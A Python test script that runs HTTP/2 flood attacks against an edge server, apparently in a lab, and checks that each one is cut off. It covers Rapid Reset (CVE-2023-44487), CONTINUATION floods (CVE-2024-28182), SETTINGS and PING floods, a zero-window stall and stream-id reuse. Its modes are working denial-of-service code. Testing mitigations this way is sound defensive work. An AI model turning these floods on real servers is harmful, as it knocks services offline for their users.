#!/usr/bin/env python3
"""HTTP/2 floods against the edge (stdlib only; framing from h2connect.py). Each mode
writes "started" to --ready once its attack is under way, prints one result line and
exits 0 when the edge ended the attack as expected, 1 otherwise. Bounded by --timeout.

  h2flood.py reset HOST:PORT ...        streams opened and reset at once (CVE-2023-44487),
                                        in batches of 100; "goaway=CODE streams=N"
  h2flood.py continuation HOST:PORT ... one HEADERS without END_HEADERS, then CONTINUATION
                                        frames of 1 KiB (CVE-2024-28182);
                                        "goaway=CODE continuations=N" or "closed ..."
  h2flood.py settings|ping HOST:PORT .. SETTINGS or PING frames sent without reading the
                                        answers, from a socket with a small receive
                                        buffer; "goaway=CODE frames=N" or "closed frames=N"
  h2flood.py window HOST:PORT ...       SETTINGS_INITIAL_WINDOW_SIZE 0, then a GET that is
                                        never given window; "status=S rst=CODE" or
                                        "status=S goaway=CODE" once the edge gives up
  h2flood.py ids HOST:PORT ...          a request on stream 2^31-1, reset once answered,
                                        then one on stream 1 (ids must grow);
                                        "first=S second=none|answered goaway=CODE"

Requests are GETs for --host and --path (visitors), or CONNECTs to --connect with
--token (access proxy) when --connect is given."""
import argparse
import os
import socket
import ssl
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from h2connect import (  # noqa: E402
    ACK, CONT, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST, SETTINGS, H2Error,
    hpack_literal, status_of,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8


def frame(ftype, flags, sid, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([ftype, flags])
            + struct.pack(">I", sid) + payload)


class Peer:
    def __init__(self, args, rcvbuf=0):
        host, port = args.target.rsplit(":", 1)
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.settimeout(args.timeout)
        sock.connect((host, int(port)))
        if args.tls:
            ctx = ssl.create_default_context(cafile=args.ca)
            ctx.set_alpn_protocols(["h2"])
            sock = ctx.wrap_socket(sock, server_hostname=args.sni or args.host)
            if sock.selected_alpn_protocol() != "h2":
                raise H2Error("no ALPN h2 (%r)" % sock.selected_alpn_protocol())
        self.sock, self.buf, self.args = sock, b"", args
        self.deadline = time.monotonic() + args.timeout

    def send(self, data):
        """False once the edge closed the connection."""
        try:
            self.sock.sendall(data)
            return True
        except (BrokenPipeError, ConnectionResetError, ssl.SSLError, socket.timeout):
            return False

    def read_frame(self):
        """(type, flags, sid, payload), or None at EOF."""
        while True:
            if len(self.buf) >= 9:
                n = struct.unpack(">I", b"\0" + self.buf[:3])[0]
                if len(self.buf) >= 9 + n:
                    hdr, self.buf = self.buf[:9 + n], self.buf[9 + n:]
                    sid = struct.unpack(">I", hdr[5:9])[0] & 0x7FFFFFFF
                    return hdr[3], hdr[4], sid, hdr[9:]
            if time.monotonic() > self.deadline:
                raise H2Error("timed out")
            try:
                data = self.sock.recv(1 << 16)
            except (ConnectionResetError, ssl.SSLError):
                return None
            if not data:
                return None
            self.buf += data

    def request(self, sid, end_headers=True):
        a = self.args
        if a.connect:
            block = (hpack_literal(":method", "CONNECT") + hpack_literal(":authority", a.connect)
                     + hpack_literal("proxy-authorization", "Bearer " + a.token))
            flags = 0
        else:
            block = (hpack_literal(":method", "GET") + hpack_literal(":scheme", "https")
                     + hpack_literal(":authority", a.host) + hpack_literal(":path", a.path))
            flags = END_STREAM
        return frame(HEADERS, flags | (END_HEADERS if end_headers else 0), sid, block)

    def until_end(self):
        """Reads until EOF: the GOAWAY code seen, else None."""
        code = None
        while True:
            f = self.read_frame()
            if f is None:
                return code
            if f[0] == GOAWAY:
                code = struct.unpack(">I", f[3][4:8])[0]


def ready(args):
    if args.ready:
        with open(args.ready, "w") as fh:
            fh.write("started\n")


def start(args, settings=b"", rcvbuf=0):
    p = Peer(args, rcvbuf)
    p.send(PREFACE + frame(SETTINGS, 0, 0, settings))
    return p


def mode_reset(args):
    p = start(args)
    sent, waiting, code = 0, False, None
    while code is None and sent < args.count:
        if not waiting:
            batch = b"".join(p.request(1 + 2 * (sent + i)) + frame(RST, 0, 1 + 2 * (sent + i),
                                                                   struct.pack(">I", CANCEL))
                             for i in range(100))
            if not p.send(batch + frame(PING, 0, 0, b"h2flood!")):
                break
            sent += 100
            waiting = True
            if sent == 100:
                ready(args)
        f = p.read_frame()
        if f is None:
            break
        if f[0] == GOAWAY:
            code = struct.unpack(">I", f[3][4:8])[0]
        elif f[0] == PING and f[1] & ACK:
            waiting = False
        elif f[0] == SETTINGS and not f[1] & ACK:
            p.send(frame(SETTINGS, ACK, 0))
    if code is None:
        code = p.until_end() if sent < args.count else None
    print("goaway=%s streams=%d" % (code, sent))
    return 0 if code is not None else 1


def mode_continuation(args):
    p = start(args)
    p.send(p.request(1, end_headers=False))
    junk = hpack_literal("x-junk", "a" * 1000)
    n = 0
    while n < args.count:
        if not p.send(frame(CONT, 0, 1, junk) * 10):
            break
        n += 10
        if n == 10:
            ready(args)
    code = p.until_end()
    print("%s continuations=%d" % ("goaway=%s" % code if code is not None else "closed", n))
    return 0 if n < args.count else 1


def mode_control(args):
    p = start(args, rcvbuf=4096)
    one = frame(SETTINGS, 0, 0) if args.mode == "settings" else frame(PING, 0, 0, b"h2flood!")
    batch, n, ok = one * 1000, 0, True
    p.sock.settimeout(min(args.timeout, 5.0))
    while n < args.count and ok:
        ok = p.send(batch)
        if ok:
            n += 1000
        if n == 1000:
            ready(args)
    p.sock.settimeout(args.timeout)
    ready(args)
    code = p.until_end()
    print("%s frames=%d" % ("goaway=%s" % code if code is not None else "closed", n))
    return 0


def mode_window(args):
    p = start(args, settings=struct.pack(">HI", 4, 0))
    p.send(p.request(1))
    ready(args)
    status = None
    while True:
        f = p.read_frame()
        if f is None:
            print("status=%s closed" % status)
            return 0 if status == 200 else 1
        ftype, flags, sid, payload = f
        if ftype == SETTINGS and not flags & ACK:
            p.send(frame(SETTINGS, ACK, 0))
        elif ftype == PING and not flags & ACK:
            p.send(frame(PING, ACK, 0, payload))
        elif ftype == HEADERS and sid == 1:
            status = status_of(payload)
        elif ftype == RST and sid == 1:
            print("status=%s rst=%d" % (status, struct.unpack(">I", payload)[0]))
            return 0 if status == 200 else 1
        elif ftype == GOAWAY:
            print("status=%s goaway=%d" % (status, struct.unpack(">I", payload[4:8])[0]))
            return 0 if status == 200 else 1


def mode_ids(args):
    p = start(args)
    top = 0x7FFFFFFF
    p.send(p.request(top))
    ready(args)
    first = None
    while first is None:
        f = p.read_frame()
        if f is None:
            raise H2Error("closed before the first answer")
        ftype, flags, sid, payload = f
        if ftype == SETTINGS and not flags & ACK:
            p.send(frame(SETTINGS, ACK, 0))
        elif ftype == HEADERS and sid == top:
            first = status_of(payload)
        elif ftype == RST and sid == top:
            first = "rst%d" % struct.unpack(">I", payload)[0]
    # the last stream id is used up: end that stream, then try a lower id
    p.send(frame(RST, 0, top, struct.pack(">I", CANCEL)) + p.request(1))
    second, code = "none", None
    while True:
        f = p.read_frame()
        if f is None:
            break
        ftype, flags, sid, payload = f
        if sid == 1 and ftype in (HEADERS, RST):
            second = "answered"
        elif ftype == GOAWAY:
            code = struct.unpack(">I", payload[4:8])[0]
        elif ftype == PING and not flags & ACK:
            p.send(frame(PING, ACK, 0, payload))
    print("first=%s second=%s goaway=%s" % (first, second, code))
    return 0 if code is not None else 1


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("mode", choices=["reset", "continuation", "settings", "ping", "window", "ids"])
    ap.add_argument("target")
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--ca")
    ap.add_argument("--sni")
    ap.add_argument("--host", default="app.lab.test")
    ap.add_argument("--path", default="/")
    ap.add_argument("--connect")
    ap.add_argument("--token")
    ap.add_argument("--count", type=int, default=10000)
    ap.add_argument("--ready")
    ap.add_argument("--timeout", type=float, default=30)
    args = ap.parse_args()
    modes = {"reset": mode_reset, "continuation": mode_continuation, "settings": mode_control,
             "ping": mode_control, "window": mode_window, "ids": mode_ids}
    try:
        return modes[args.mode](args)
    except (H2Error, OSError) as e:
        print("h2flood %s: %s" % (args.mode, e), file=sys.stderr)
        return 1


if __name__ == "__main__":
    sys.exit(main())
